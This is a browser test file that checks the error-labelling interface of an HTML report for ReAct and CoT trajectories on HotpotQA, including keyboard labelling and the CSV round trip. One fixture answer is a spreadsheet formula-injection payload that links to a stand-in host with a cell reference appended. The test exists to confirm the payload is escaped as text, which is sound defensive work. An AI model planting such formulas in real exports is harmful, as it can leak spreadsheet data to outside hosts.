// Table 2 labelling in the HTML report, in headless Chromium (Debian's /usr/bin/chromium, driven by
// playwright-core): the page lists the sample `report --label-sheet` writes; the keyboard moves and
// labels (j/k, 1-6); the download (a Blob, under the page's CSP) is the label sheet's CSV with the
// labels filled in, byte for byte, and it round-trips through `report --labels` into Table 2.
// Skipped, saying why, when there is no chromium binary or no playwright-core (.ci/run installs both).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { chromiumSkipReason, launchChromium, warnIfSkipped, recordErrors } from '../support/chromium.js';
import { runCli } from '../run/cli-helpers.js';
import { qa, qaRecords, writeRun } from './run-folders.js';
import { parseLabelsCsv } from '../../src/report/error-tags.js';

warnIfSkipped('html-labelling-chromium.test.ts');

describe.skipIf(chromiumSkipReason !== null)('labelling Table 2 in the HTML report (Chromium)', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'html-label-'));
  const results = path.join(dir, 'results');
  const file = path.join(dir, 'report.html');
  let browser: Browser;
  let page: Page;
  const consoleErrors: string[] = [];
  const requests: string[] = [];

  beforeAll(async () => {
    const idx = Array.from({ length: 12 }, (_, i) => i);
    writeRun(results, {
      runId: 'hotpotqa-react-x',
      method: 'react',
      indices: idx,
      records: qaRecords(idx, 'rrrrrrwwpprr', (i) =>
        i === 6 ? { answer: 'a "quoted", answer' } : i === 7 ? { answer: '=HYPERLINK("http://x.test/?"&A1,"click")' } : {},
      ).map((r) => (r.idx === 11 ? qa(11, 'error') : r)),
    });
    writeRun(results, { runId: 'hotpotqa-cot-x', method: 'cot', indices: idx, records: qaRecords(idx, 'rrrrrwwwwwrr') });
    const r = await runCli(['report', results, '--out', file], { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    browser = await launchChromium();
    const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1280, height: 900 } });
    page = await context.newPage();
    await recordErrors(page, consoleErrors);
    page.on('request', (q) => requests.push(q.url()));
    await page.goto(pathToFileURL(file).href);
    await page.waitForSelector('#labelling[data-ready="1"]');
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  async function download(): Promise<string> {
    const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#label-download')]);
    const to = path.join(dir, `dl-${Date.now()}-${dl.suggestedFilename()}`);
    await dl.saveAs(to);
    expect(dl.suggestedFilename()).toBe('labels.csv');
    return fs.readFileSync(to, 'utf8');
  }

  it('lists the sample of the label sheet and downloads exactly the sheet before any label', async () => {
    const sheet = path.join(dir, 'sheet.csv');
    const r = await runCli(['report', results, '--label-sheet', sheet, '--out', path.join(dir, 'x.md')], { cwd: dir });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(
      /fill each row's label with one of its label_choices \(success_true_positive, success_false_positive, failure_reasoning_error, failure_search_result_error, failure_hallucination, failure_label_ambiguity;/,
    );
    const text = fs.readFileSync(sheet, 'utf8');
    expect(text.split('\n')[0]).toBe('run,benchmark,method,idx,outcome,question,gold,answer,auto_tags,trajectory,label_choices,label,note');
    const n = parseLabelsCsv(text, sheet).length;
    // The list draws the rows in view and a few around them (html-labelling-scale-chromium.test.ts):
    // here every row, in order, each knowing its place in the list.
    const drawn = await page
      .locator('#label-list li:not(.spacer)')
      .evaluateAll((ls) =>
        ls.map((l) => [
          l.getAttribute('data-index'),
          l.getAttribute('value'),
          l.getAttribute('aria-posinset'),
          l.getAttribute('aria-setsize'),
        ]),
      );
    expect(drawn).toEqual(Array.from({ length: n }, (_, i) => [String(i), String(i + 1), String(i + 1), String(n)]));
    expect(await page.locator('#label-status').textContent()).toBe(`0 of ${n} labelled · trajectory 1 of ${n}`);
    // The shown trajectory, read from its block's compressed bodies (asynchronously).
    await expect
      .poll(() => page.locator('#label-detail pre.label-trajectory').textContent())
      .toMatch(/^Question: question 0\?\nThought 1: /);
    // A model answer a spreadsheet would run as a formula is text in both the sheet and the page's CSV.
    expect(text).toContain(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")"`);
    expect(await download()).toBe(text);
  });

  it('labels two trajectories with the keyboard; the CSV round-trips through report --labels', async () => {
    await page.locator('#labelling').focus();
    const rows = page.locator('#label-list li:not(.spacer)');
    // The first trajectory is a correct one: 2 = success_false_positive; a failure key does not fit it.
    expect(await page.locator('#label-detail h3').textContent()).toMatch(/^1 of \d+: hotpotqa \/ cot #0 \(correct\)$/);
    await page.keyboard.press('3');
    expect(await page.locator('#label-message').textContent()).toBe('failure_reasoning_error does not fit a correct trajectory');
    expect(await rows.nth(0).getAttribute('data-label')).toBe('');
    await page.keyboard.press('2');
    expect(await rows.nth(0).getAttribute('data-label')).toBe('success_false_positive');
    // Labelling moves to the next one; k goes back, j forward.
    expect(await page.locator('#label-detail').getAttribute('data-index')).toBe('1');
    await page.keyboard.press('k');
    expect(await page.locator('#label-detail').getAttribute('data-index')).toBe('0');
    // An incorrect CoT trajectory: CoT never searches, so a search result error does not apply (as in the paper).
    const labels = await rows.allTextContents();
    const cotWrong = labels.findIndex((t) => /^cot #\d+ incorrect/.test(t));
    expect(cotWrong).toBeGreaterThan(0);
    for (let i = 0; i < cotWrong; i++) await page.keyboard.press('j');
    expect(await page.locator('#label-detail button[data-key="failure_search_result_error"]').isDisabled()).toBe(true);
    await page.keyboard.press('4');
    expect(await page.locator('#label-message').textContent()).toBe('failure_search_result_error does not apply to a CoT trajectory');
    expect(await rows.nth(cotWrong).getAttribute('data-label')).toBe('');
    // To the first incorrect trajectory of ReAct with j / ArrowDown.
    const target = labels.findIndex((t) => /^react #\d+ incorrect/.test(t));
    expect(target).toBeGreaterThan(cotWrong);
    for (let i = cotWrong; i < target; i++) await page.keyboard.press(i % 2 ? 'ArrowDown' : 'j');
    expect(await page.locator('#label-detail').getAttribute('data-index')).toBe(String(target));
    await page.keyboard.press('n');
    await page.keyboard.type('searched, found "nothing"');
    await page.keyboard.press('Enter');
    await page.keyboard.press('4');
    expect(await rows.nth(target).getAttribute('data-label')).toBe('failure_search_result_error');
    expect(await page.locator('#label-status').textContent()).toMatch(/^2 of \d+ labelled/);
    await page.screenshot({ path: path.join(os.tmpdir(), 'react-repro-labelling.png'), fullPage: false });

    const csvText = await download();
    const labelsFile = path.join(dir, 'labels.csv');
    fs.writeFileSync(labelsFile, csvText);
    const parsed = parseLabelsCsv(csvText, labelsFile).filter((x) => x.label !== '');
    expect(parsed.map((x) => [x.run, x.outcome, x.label, x.note])).toEqual([
      ['hotpotqa-cot-x', 'correct', 'success_false_positive', ''],
      ['hotpotqa-react-x', 'incorrect', 'failure_search_result_error', 'searched, found "nothing"'],
    ]);
    const md = await runCli(['report', results, '--labels', labelsFile], { cwd: dir });
    expect(md.stderr).toBe('');
    expect(md.code).toBe(0);
    expect(md.stdout).toContain('### Table 2: error analysis, HotpotQA (labelled)');
    // ReAct's columns first (the paper's order), then CoT's.
    expect(md.stdout).toMatch(/\| Success: false positive[^|]* \| — \| 0\/0 \| [\d.]+ \| 100\.0 \| 1\/1 \|/);
    expect(md.stdout).toMatch(/\| Failure: search result error \| 100\.0 \| 1\/1 \|/);
    expect(md.stdout).toContain('ReAct: 1 of 11 sampled trajectories labelled');
    expect(md.stdout).toContain('CoT: 1 of 12 sampled trajectories labelled');
    // Labels stay in this browser: after a reload the page still has both.
    await page.reload();
    await page.waitForSelector('#labelling[data-ready="1"]');
    expect(await page.locator('#label-status').textContent()).toMatch(/^2 of \d+ labelled/);
    expect(consoleErrors).toEqual([]);
    expect(requests.every((u) => u.startsWith('file:') || u.startsWith('blob:'))).toBe(true);
  });
});
